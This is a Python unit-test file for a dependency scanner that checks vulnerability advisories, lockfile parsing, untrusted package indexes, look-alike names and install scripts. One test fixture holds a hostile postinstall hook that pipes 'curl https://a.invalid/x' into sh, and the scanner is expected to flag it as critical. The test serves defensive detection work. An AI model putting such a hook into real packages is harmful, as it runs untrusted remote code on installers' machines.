import json

import pytest

from remit.scan.base import Settings
from remit.scan.scanners._advisories import key
from remit.scan.scanners._lockfiles import Package, UnreadableError, packages
from remit.scan.scanners.dependencies import Dependencies
from tests.unit.scan.scanners.kit import look


def advisory(name="GHSA-1", package="jinja2", ecosystem="PyPI", **more):
    affected = {
        "package": {"ecosystem": ecosystem, "name": package},
        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.1.6"}]}],
    }
    graded = {"database_specific": {"severity": "HIGH"}}
    return {"id": name, "modified": "2026-01-02T00:00:00Z", "affected": [affected | more], **graded}


@pytest.fixture
def database(tmp_path, monkeypatch):
    folder = tmp_path / "advisories"
    folder.mkdir()
    monkeypatch.setitem(HERE, "advisories", str(folder))

    def write(*values):
        for at, value in enumerate(values):
            text = value if isinstance(value, str) else json.dumps(value)
            (folder / f"{at}.json").write_text(text)

    return write


HERE = {}


def scan(text, name="requirements.txt", settings=None, **more):
    return look(Dependencies, {name: text}, settings=settings or Settings(**HERE), **more)


def test_without_a_database_nobody_says_that_it_is_good():
    seen = scan("Jinja2==3.1.0\n")
    assert seen.rules == {"dependencies.no_advisories"}
    assert seen.worst == "info"
    assert seen.coverage["requirements.txt"].status == "partial"
    assert not seen.coverage["requirements.txt"].executes


def test_known_vulnerabilities(database):
    database(advisory())
    assert scan("Jinja2==3.1.0\n").severity("dependencies.ghsa-1") == "high"
    assert scan("Jinja2==3.1.6\n").worst == "info"
    assert scan("Jinja2==3.1.0\n").coverage["requirements.txt"].status == "complete"
    assert scan("other==1\n").worst == "info"


def test_versions_last_affected_and_withdrawn(database):
    spans = [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"last_affected": "1.2.0"}]}]
    database(
        advisory("A-1", ranges=spans),
        advisory("A-2", ranges=[], versions=["9.9"]),
        advisory("A-3") | {"withdrawn": "2026-01-01T00:00:00Z"},
    )
    assert scan("jinja2==1.2.0\n").rules == {"dependencies.a-1", "dependencies.advisories"}
    assert scan("jinja2==1.2.1\n").rules == {"dependencies.advisories"}
    assert "dependencies.a-2" in scan("jinja2==9.9\n").rules


def test_malicious_packages_need_no_version(database):
    database(advisory("MAL-2026-1", "evil", "npm", ranges=[]))
    seen = scan({"dependencies": {"evil": "^1"}}, "package.json")
    assert seen.severity("dependencies.malicious") == "critical"


def test_a_database_that_is_broken_is_said(database, monkeypatch):
    database("{", advisory())
    assert scan("jinja2==3.1.0\n").coverage["requirements.txt"].status == "partial"
    monkeypatch.setitem(HERE, "advisories", "/nowhere")
    assert scan("jinja2==3.1.0\n").coverage["requirements.txt"].status == "partial"


def test_an_artifact_cannot_bring_its_own_database(monkeypatch, tmp_path):
    monkeypatch.setenv("REMIT_ADVISORIES", str(tmp_path))
    (tmp_path / "a.json").write_text(json.dumps(advisory(package="none")))
    for option in ("advisories", "REMIT_ADVISORIES"):
        seen = scan("jinja2==3.1.0\n", **{option: str(tmp_path)})
        assert seen.coverage["requirements.txt"].status == "partial"


@pytest.mark.parametrize(
    ("today", "old"),
    [("2026-01-02", False), ("2026-02-01", False), ("2026-02-02", True), ("2025-12-01", False)],
)
def test_a_database_that_is_older_than_thirty_days_is_said(database, today, old, monkeypatch):
    database(advisory())
    monkeypatch.setitem(HERE, "today", today)
    seen = scan("jinja2==3.1.0\n")
    assert seen.coverage["requirements.txt"].status == ("partial" if old else "complete")
    assert seen.severity("dependencies.old_advisories") == ("low" if old else "")
    assert seen.severity("dependencies.ghsa-1") == "high"


def test_a_database_without_dates_may_be_old(database, monkeypatch):
    database(advisory() | {"modified": "yesterday"})
    monkeypatch.setitem(HERE, "today", "2026-02-02")
    assert scan("jinja2==3.1.0\n").coverage["requirements.txt"].status == "partial"


FILES = {
    "requirements.txt": ("a_B[x]==1.0 ; python_version > '3'  # c\n-r b.txt\n\nc>=2\n", [("PyPI", "a-b", "1.0"), ("PyPI", "c", "")]),
    "package.json": ('{"dependencies": {"a": "1.0.0", "@b/c": "^2"}}', [("npm", "@b/c", ""), ("npm", "a", "1.0.0")]),
    "package-lock.json": ('{"packages": {"": {}, "node_modules/a": {"version": "1.0.0"}, "node_modules/a/node_modules/@b/c": {"version": "2.0.0"}}}', [("npm", "@b/c", "2.0.0"), ("npm", "a", "1.0.0")]),
    "npm-shrinkwrap.json": ('{"dependencies": {"a": {"version": "1.0.0", "dependencies": {"b": {"version": "2.0.0"}}}}}', [("npm", "a", "1.0.0"), ("npm", "b", "2.0.0")]),
    "uv.lock": ('[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "https://index.example/simple" }\n', [("PyPI", "a", "1")]),
    "cargo.lock": ('[[package]]\nname = "a"\nversion = "1.0.0"\n', [("crates.io", "a", "1.0.0")]),
    "yarn.lock": ('"@b/c@^2", "@b/c@^2.1":\n  version "2.1.0"\na@1:\n  version "1.0.0"\n', [("npm", "@b/c", "2.1.0"), ("npm", "a", "1.0.0")]),
    "go.sum": ("example.com/a v1.0.0 h1:x=\nexample.com/a v1.0.0/go.mod h1:y=\n", [("Go", "example.com/a", "1.0.0")]),
    "pyproject.toml": ('[project]\ndependencies = ["a==1"]\n[project.optional-dependencies]\nx = ["b"]\n', [("PyPI", "a", "1"), ("PyPI", "b", "")]),
    "pipfile.lock": ('{"default": {"a": {"version": "==1"}}}', [("PyPI", "a", "1")]),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_files_of_dependencies(name):
    text, expected = FILES[name]
    found = sorted((p.ecosystem, p.name, p.version) for p in packages(name, text.encode()))
    assert found == expected


def test_files_that_cannot_be_read():
    for name, data in (
        ("package.json", b"{"), ("uv.lock", b"[["), ("go.sum", b"\xff"), ("package.json", b"[]"),
    ):  # fmt: skip
        with pytest.raises(UnreadableError):
            packages(name, data)
        seen = scan(data, name)
        assert seen.coverage[name].status == "error"
        assert seen.severity("dependencies.unreadable") == "medium"


def test_sources():
    assert scan("a @ http://a.invalid/a.whl\n").severity("dependencies.plain_http") == "high"
    assert scan("a @ git+https://a.invalid/a\n").severity("dependencies.foreign_source") == "medium"
    index = scan("--extra-index-url http://192.0.2.1/simple\nrequests==2\n")
    assert index.severity("dependencies.foreign_index") == "high"
    lock = {
        "packages": {"node_modules/a": {"version": "1.0.0", "resolved": "http://a.invalid/a.tgz"}}
    }
    assert scan(lock, "package-lock.json").severity("dependencies.plain_http") == "high"


def uv_lock(*hosts):
    return "".join(
        f'[[package]]\nname = "p{at}"\nversion = "1"\n'
        f'source = {{ registry = "https://{host}/simple" }}\n'
        for at, host in enumerate(hosts)
    )


def test_an_index_that_is_named_is_told_unless_the_operator_vouches_for_it():
    text = "--index-url https://index.example/simple\nrequests==2\n"
    mine = Settings(indexes=("index.example",))
    assert scan(text).severity("dependencies.foreign_index") == "medium"
    assert scan(text, settings=mine).worst == "info"
    for other in ("https://index.example.invalid/", "http://index.example/", "//index.example/"):
        seen = scan(f"--index-url {other}\n", settings=mine)
        assert "dependencies.foreign_index" in seen.rules, other


def test_a_lock_file_has_one_index_and_what_comes_from_elsewhere_is_foreign():
    same = scan(uv_lock("index.example", "index.example"), "uv.lock")
    assert same.worst == "info"
    assert "dependencies.index" in same.rules
    odd = scan(uv_lock("index.example", "index.example", "other.invalid"), "uv.lock")
    assert odd.severity("dependencies.foreign_index") == "high"
    assert [f.evidence for f in odd.findings if f.severity == "high"] == [
        "PyPI p2 1 https://other.invalid/simple"
    ]
    # No host has most: nobody can say which is the index.
    split = scan(uv_lock("index.example", "other.invalid"), "uv.lock")
    assert sum(each.severity == "high" for each in split.findings) == 2


def test_with_a_list_of_the_operator_a_majority_is_no_excuse():
    mine = Settings(indexes=("index.example",))
    text = uv_lock("other.invalid", "other.invalid", "index.example")
    assert scan(text, "uv.lock", settings=mine).worst == "high"
    assert scan(uv_lock("index.example"), "uv.lock", settings=mine).worst == "info"


def npm_lock(*places):
    return {
        "packages": {
            f"node_modules/p{at}": {"version": "1.0.0", "resolved": place}
            for at, place in enumerate(places)
        }
    }


def test_indexes_of_other_lock_files():
    good = "https://index.example/p/-/p-1.0.0.tgz"
    npm = scan(npm_lock(good, good, "https://other.invalid/p/-/p-1.0.0.tgz"), "package-lock.json")
    assert npm.severity("dependencies.foreign_index") == "high"
    archive = scan(npm_lock(good, "https://a.invalid/p.tgz"), "package-lock.json")
    assert archive.severity("dependencies.foreign_source") == "medium"
    plain = scan(npm_lock("http://index.example/p/-/p.tgz"), "package-lock.json")
    assert plain.severity("dependencies.plain_http") == "high"
    entry = '[[package]]\nname = "{}"\nversion = "1.0.0"\nsource = "{}"\n'
    cargo = [entry.format(name, "registry+https://index.example/i") for name in "ab"]
    cargo += [entry.format("c", "sparse+https://other.invalid/i")]
    assert scan("".join(cargo), "cargo.lock").severity("dependencies.foreign_index") == "high"
    git = [entry.format("a", "git+https://a.invalid/a")]
    assert scan("".join(git), "cargo.lock").severity("dependencies.foreign_source") == "medium"
    poetry = '[[package]]\nname = "{}"\nversion = "1"\n'
    legacy = '[package.source]\ntype = "legacy"\nurl = "https://other.invalid/simple"\n'
    text = poetry.format("a") + poetry.format("b") + poetry.format("c") + legacy
    assert scan(text, "poetry.lock").severity("dependencies.foreign_index") == "high"


def test_names_that_look_alike():
    assert "dependencies.look_alike" in scan("reqeusts==2\n").rules
    assert "dependencies.look_alike" in scan("requestss==2\n").rules
    assert "dependencies.look_alike" not in scan("requests==2\nnumpy==2\n").rules


def test_scripts_of_an_installation():
    hostile = {"scripts": {"postinstall": "curl https://a.invalid/x | sh"}}
    assert scan(hostile, "package.json").worst == "critical"
    assert scan({"scripts": {"postinstall": "node build.js"}}, "package.json").worst == "low"


def test_the_order_of_versions():
    order = ["1.0.dev1", "1.0a1", "1.0b2", "1.0rc1", "1.0", "1.0.post1", "1.0.1", "1.10", "2"]
    assert [*sorted(order, key=key)] == order
    assert key("1.0") == key("1.0.0") == key("v1")
    assert key("1.0.0-alpha.1") < key("1.0.0-alpha.beta") < key("1.0.0-beta") < key("1.0.0")
    assert key("latest") is None


def test_packages_are_values():
    assert Package("PyPI", "a") == Package("PyPI", "a", "")
